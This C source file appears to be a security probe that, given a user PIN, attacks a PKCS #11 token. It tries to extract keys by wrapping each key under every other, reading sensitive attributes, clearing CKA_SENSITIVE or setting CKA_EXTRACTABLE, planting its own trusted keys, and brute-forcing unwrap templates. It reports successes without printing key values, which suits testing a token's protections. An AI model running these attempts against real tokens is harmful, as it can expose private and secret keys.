/*
 * What somebody tries who has a token's user PIN and no program of ours: plain PKCS #11.
 *
 *     attack MODULE LABEL PIN-FILE everything
 *         tries each key that wraps, by each mechanism, on each key, and each private attribute of each key; then the
 *         same with copies, and with keys of its own; prints a line for each that worked
 *     attack MODULE LABEL PIN-FILE unwrap FILE
 *         tries each key that unwraps, by each mechanism, on what is in the file, as keys of many kinds that can be
 *         read; prints a line for each that worked
 */
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "pkcs11go.h"

static CK_FUNCTION_LIST_PTR f;
static CK_SESSION_HANDLE session;
static CK_BBOOL yes = CK_TRUE, no = CK_FALSE;
enum { max_objects = 1000 };

static void demand(const char *what, CK_RV rv)
{
	if (rv != CKR_OK) {
		fprintf(stderr, "%s: 0x%lX\n", what, rv);
		exit(2);
	}
}

static CK_RSA_PKCS_OAEP_PARAMS oaep = { CKM_SHA_1, CKG_MGF1_SHA1, CKZ_DATA_SPECIFIED, NULL, 0 };
static CK_BYTE iv[16];
static CK_MECHANISM mechanisms[] = {
	{ CKM_RSA_PKCS_OAEP, &oaep, sizeof oaep }, { CKM_RSA_PKCS, NULL, 0 }, { CKM_RSA_X_509, NULL, 0 },
	{ 0x1054 /* CKM_RSA_AES_KEY_WRAP */, NULL, 0 }, { 0x2109 /* CKM_AES_KEY_WRAP */, NULL, 0 },
	{ 0x210A /* CKM_AES_KEY_WRAP_PAD */, NULL, 0 }, { 0x210B /* CKM_AES_KEY_WRAP_KWP */, NULL, 0 },
	{ CKM_AES_CBC_PAD, iv, sizeof iv }, { CKM_AES_CBC, iv, sizeof iv }, { CKM_AES_ECB, NULL, 0 },
};
enum { mechanism_count = sizeof mechanisms / sizeof *mechanisms };

static const char *label_of(CK_OBJECT_HANDLE h)
{
	static char ring[8][200];
	static int next;
	char *label = ring[next++ % 8];
	CK_ATTRIBUTE a = { CKA_LABEL, label, sizeof ring[0] - 1 };
	if (f->C_GetAttributeValue(session, h, &a, 1) != CKR_OK)
		a.ulValueLen = 0;
	label[a.ulValueLen] = 0;
	return *label ? label : "one of its own";
}

static CK_OBJECT_CLASS class_of(CK_OBJECT_HANDLE h)
{
	CK_OBJECT_CLASS class = CK_UNAVAILABLE_INFORMATION;
	CK_ATTRIBUTE a = { CKA_CLASS, &class, sizeof class };
	f->C_GetAttributeValue(session, h, &a, 1);
	return class;
}

static CK_ULONG all(CK_OBJECT_HANDLE *h)
{
	CK_ULONG n = 0;
	demand("C_FindObjectsInit", f->C_FindObjectsInit(session, NULL, 0));
	demand("C_FindObjects", f->C_FindObjects(session, h, max_objects, &n));
	demand("C_FindObjectsFinal", f->C_FindObjectsFinal(session));
	return n;
}

/* Every private attribute of every key. */
static void read_all(const char *when)
{
	static CK_OBJECT_HANDLE h[max_objects];
	static const CK_ATTRIBUTE_TYPE types[] = { CKA_VALUE, CKA_PRIVATE_EXPONENT, CKA_PRIME_1, CKA_PRIME_2,
		CKA_EXPONENT_1, CKA_EXPONENT_2, CKA_COEFFICIENT };
	CK_ULONG n = all(h);
	for (CK_ULONG i = 0; i < n; i++) {
		if (class_of(h[i]) != CKO_PRIVATE_KEY && class_of(h[i]) != CKO_SECRET_KEY)
			continue;
		for (size_t t = 0; t < sizeof types / sizeof *types; t++) {
			CK_BYTE value[1024];
			CK_ATTRIBUTE a = { types[t], value, sizeof value };
			if (f->C_GetAttributeValue(session, h[i], &a, 1) == CKR_OK &&
			    a.ulValueLen > 0 && a.ulValueLen <= sizeof value)
				printf("read 0x%lX of %s, %s\n", types[t], label_of(h[i]), when);
		}
	}
}

/* Every key under every other. */
static void wrap_all(void)
{
	static CK_OBJECT_HANDLE h[max_objects];
	CK_ULONG n = all(h);
	for (CK_ULONG w = 0; w < n; w++) {
		if (class_of(h[w]) != CKO_PUBLIC_KEY && class_of(h[w]) != CKO_SECRET_KEY)
			continue;
		for (CK_ULONG k = 0; k < n; k++) {
			if (class_of(h[k]) != CKO_PRIVATE_KEY && class_of(h[k]) != CKO_SECRET_KEY)
				continue;
			for (int m = 0; m < mechanism_count; m++) {
				CK_BYTE out[8192];
				CK_ULONG size = sizeof out;
				if (f->C_WrapKey(session, &mechanisms[m], h[w], h[k], out, &size) == CKR_OK)
					printf("wrapped %s under %s\n", label_of(h[k]), label_of(h[w]));
			}
		}
	}
}

/*
 * Every key changed, or copied and changed, into one that is open. Those that it can change are tried last, so that
 * wrap_all has found what it can.
 */
static void weaken_all(void)
{
	static CK_OBJECT_HANDLE h[max_objects];
	CK_ATTRIBUTE changes[] = {
		{ CKA_SENSITIVE, &no, 1 }, { CKA_EXTRACTABLE, &yes, 1 }, { CKA_WRAP_WITH_TRUSTED, &no, 1 },
		{ CKA_TRUSTED, &yes, 1 }, { CKA_DECRYPT, &yes, 1 }, { CKA_UNWRAP, &yes, 1 },
		{ CKA_UNWRAP_TEMPLATE, NULL, 0 }, { CKA_WRAP_TEMPLATE, NULL, 0 },
	};
	CK_ULONG n = all(h);
	for (CK_ULONG i = 0; i < n; i++) {
		CK_OBJECT_CLASS class = class_of(h[i]);
		if (class != CKO_PRIVATE_KEY && class != CKO_SECRET_KEY && class != CKO_PUBLIC_KEY)
			continue;
		CK_BBOOL is = CK_FALSE;
		for (size_t c = 0; c < sizeof changes / sizeof *changes; c++) {
			CK_ATTRIBUTE have = { changes[c].type, &is, 1 };
			if (changes[c].pValue && f->C_GetAttributeValue(session, h[i], &have, 1) == CKR_OK &&
			    is == *(CK_BBOOL *)changes[c].pValue)
				continue; /* it is so already */
			CK_ATTRIBUTE copy[] = { { CKA_TOKEN, &no, 1 }, changes[c] };
			CK_OBJECT_HANDLE made;
			if (f->C_CopyObject(session, h[i], copy, 2, &made) == CKR_OK)
				printf("copied %s with 0x%lX changed\n", label_of(h[i]), changes[c].type);
			if (f->C_SetAttributeValue(session, h[i], &changes[c], 1) == CKR_OK)
				printf("changed 0x%lX of %s\n", changes[c].type, label_of(h[i]));
		}
	}
}

/*
 * Keys of its own, to wrap others under. Of TRUSTED ones it makes none when others are to be tried: SoftHSM keeps half
 * of what it refuses to make, and crashes by it.
 */
static void own_keys(int trusted)
{
	CK_OBJECT_CLASS public = CKO_PUBLIC_KEY, secret = CKO_SECRET_KEY;
	CK_KEY_TYPE rsa = CKK_RSA, aes = CKK_AES;
	CK_BYTE e[] = { 1, 0, 1 }, value[32] = { 7 };
	CK_ULONG bits = 3072;
	CK_MECHANISM pair = { CKM_RSA_PKCS_KEY_PAIR_GEN, NULL, 0 };
	CK_OBJECT_HANDLE h, k;
	CK_ATTRIBUTE p[] = { { CKA_MODULUS_BITS, &bits, sizeof bits }, { CKA_PUBLIC_EXPONENT, e, sizeof e },
		{ CKA_TOKEN, &no, 1 }, { CKA_PRIVATE, &no, 1 }, { CKA_WRAP, &yes, 1 }, { CKA_TRUSTED, &yes, 1 } };
	CK_ATTRIBUTE q[] = { { CKA_TOKEN, &no, 1 }, { CKA_DECRYPT, &yes, 1 }, { CKA_UNWRAP, &yes, 1 },
		{ CKA_SENSITIVE, &yes, 1 }, { CKA_EXTRACTABLE, &no, 1 } };
	CK_ATTRIBUTE s[] = { { CKA_CLASS, &secret, sizeof secret }, { CKA_KEY_TYPE, &aes, sizeof aes },
		{ CKA_VALUE, value, sizeof value }, { CKA_TOKEN, &no, 1 }, { CKA_WRAP, &yes, 1 },
		{ CKA_UNWRAP, &yes, 1 }, { CKA_SENSITIVE, &yes, 1 }, { CKA_EXTRACTABLE, &no, 1 }, { CKA_TRUSTED, &yes, 1 } };
	CK_BYTE n[384];
	memset(n, 0xC1, sizeof n);
	CK_ATTRIBUTE c[] = { { CKA_CLASS, &public, sizeof public }, { CKA_KEY_TYPE, &rsa, sizeof rsa },
		{ CKA_MODULUS, n, sizeof n }, { CKA_PUBLIC_EXPONENT, e, sizeof e }, { CKA_TOKEN, &no, 1 },
		{ CKA_PRIVATE, &no, 1 }, { CKA_WRAP, &yes, 1 }, { CKA_TRUSTED, &yes, 1 } };
	CK_RV made[] = {
		f->C_GenerateKeyPair(session, &pair, p, 5 + trusted, q, 5, &h, &k),
		f->C_CreateObject(session, s, 8 + trusted, &h),
		f->C_CreateObject(session, c, 7 + trusted, &h),
	};
	for (int i = 0; i < 3; i++)
		if (trusted && made[i] == CKR_OK)
			printf("made a TRUSTED key\n");
		else if (!trusted)
			demand("a key of its own", made[i]);
}

static void unwrap_all(const char *path)
{
	static CK_OBJECT_HANDLE h[max_objects];
	static CK_BYTE wrapped[16384];
	FILE *file = fopen(path, "rb");
	CK_ULONG size = file ? fread(wrapped, 1, sizeof wrapped, file) : 0;
	CK_ULONG n = all(h), tried = 0;
	if (size == 0)
		demand(path, 1);
	CK_OBJECT_CLASS classes[] = { CKO_PRIVATE_KEY, CKO_SECRET_KEY, CKO_SECRET_KEY };
	CK_KEY_TYPE kinds[] = { CKK_RSA, CKK_AES, CKK_GENERIC_SECRET };
	for (CK_ULONG i = 0; i < n; i++) {
		if (class_of(h[i]) != CKO_PRIVATE_KEY && class_of(h[i]) != CKO_SECRET_KEY)
			continue;
		for (int m = 0; m < mechanism_count; m++)
			for (int kind = 0; kind < 3; kind++)
				for (int way = 0; way < 64; way++) { /* each attribute open, closed or left out */
					CK_ATTRIBUTE t[12] = { { CKA_CLASS, &classes[kind], sizeof classes[kind] },
						{ CKA_KEY_TYPE, &kinds[kind], sizeof kinds[kind] }, { CKA_TOKEN, &no, 1 } };
					CK_ULONG count = 3;
					if (way & 1)
						t[count++] = (CK_ATTRIBUTE){ CKA_SENSITIVE, way & 2 ? &yes : &no, 1 };
					if (way & 4)
						t[count++] = (CK_ATTRIBUTE){ CKA_EXTRACTABLE, &yes, 1 };
					if (way & 8) {
						t[count++] = (CK_ATTRIBUTE){ CKA_SIGN, &no, 1 };
						t[count++] = (CK_ATTRIBUTE){ CKA_UNWRAP, &no, 1 };
						t[count++] = (CK_ATTRIBUTE){ CKA_DERIVE, &no, 1 };
					}
					if (way & 16)
						t[count++] = (CK_ATTRIBUTE){ CKA_DECRYPT, &yes, 1 };
					if (way & 32)
						t[count++] = (CK_ATTRIBUTE){ CKA_WRAP_WITH_TRUSTED, &no, 1 };
					CK_OBJECT_HANDLE key;
					tried++;
					if (f->C_UnwrapKey(session, &mechanisms[m], h[i], wrapped, size, t, count, &key) == CKR_OK)
						printf("unwrapped under %s\n", label_of(h[i]));
				}
	}
	fprintf(stderr, "%lu tries\n", tried);
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	void *module = dlopen(argv[1], RTLD_NOW | RTLD_LOCAL);
	CK_C_GetFunctionList functions = module ? (CK_C_GetFunctionList)dlsym(module, "C_GetFunctionList") : NULL;
	demand("the module", functions ? functions(&f) : 1);
	demand("C_Initialize", f->C_Initialize(NULL));
	CK_SLOT_ID slots[100], slot = 0;
	CK_ULONG count = 100;
	demand("C_GetSlotList", f->C_GetSlotList(CK_TRUE, slots, &count));
	int found = 0;
	for (CK_ULONG i = 0; i < count; i++) {
		CK_TOKEN_INFO info;
		if (f->C_GetTokenInfo(slots[i], &info) == CKR_OK &&
		    !strncmp((char *)info.label, argv[2], strlen(argv[2])) && info.label[strlen(argv[2])] == ' ')
			slot = slots[i], found = 1;
	}
	demand("the token", !found);
	demand("C_OpenSession", f->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &session));
	char pin[256] = "";
	FILE *file = fopen(argv[3], "r");
	demand("the PIN", !file || !fgets(pin, sizeof pin, file));
	pin[strcspn(pin, "\r\n")] = 0;
	demand("C_Login", f->C_Login(session, CKU_USER, (CK_UTF8CHAR_PTR)pin, strlen(pin)));
	if (!strcmp(argv[4], "everything")) {
		own_keys(0);
		read_all("as they are");
		wrap_all();
		weaken_all();
		read_all("changed");
		wrap_all();
		own_keys(1);
	} else if (!strcmp(argv[4], "unwrap") && argc == 6) {
		unwrap_all(argv[5]);
	} else {
		return 2;
	}
	f->C_Finalize(NULL);
	return 0;
}
